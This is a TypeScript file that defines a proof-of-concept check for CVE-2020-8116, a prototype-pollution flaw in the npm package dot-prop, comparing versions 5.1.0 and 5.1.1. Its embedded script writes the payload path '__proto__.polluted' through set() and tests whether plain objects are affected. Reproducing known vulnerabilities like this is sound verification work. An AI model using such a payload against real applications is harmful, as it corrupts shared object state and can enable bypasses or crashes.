import { defineProof } from '../define-proof.ts';

/** Sets a path through the prototype and looks for its property on a plain object. */
export const dotPropProto = defineProof({
  name: 'dot-prop-proto',
  ids: ['CVE-2020-8116', 'GHSA-ff7x-qrg7-qggm'],
  ecosystem: 'npm',
  package: 'dot-prop',
  kind: 'prototype_pollution',
  describes: 'Sets a path through the prototype and looks for its property on a plain object.',
  shownOn: { vulnerable: '5.1.0', fixed: '5.1.1' },
  source: `
module.exports = ({ load }) => {
  const subject = load();
  const answers = subject.get({ a: { b: 2 } }, 'a.b') === 2;
  try {
    subject.set({}, '__proto__.polluted', true);
  } catch {
    // Refusing is an answer as well.
  }
  const reproduced = ({}).polluted !== undefined;
  return { reproduced, answers };
};
`,
});
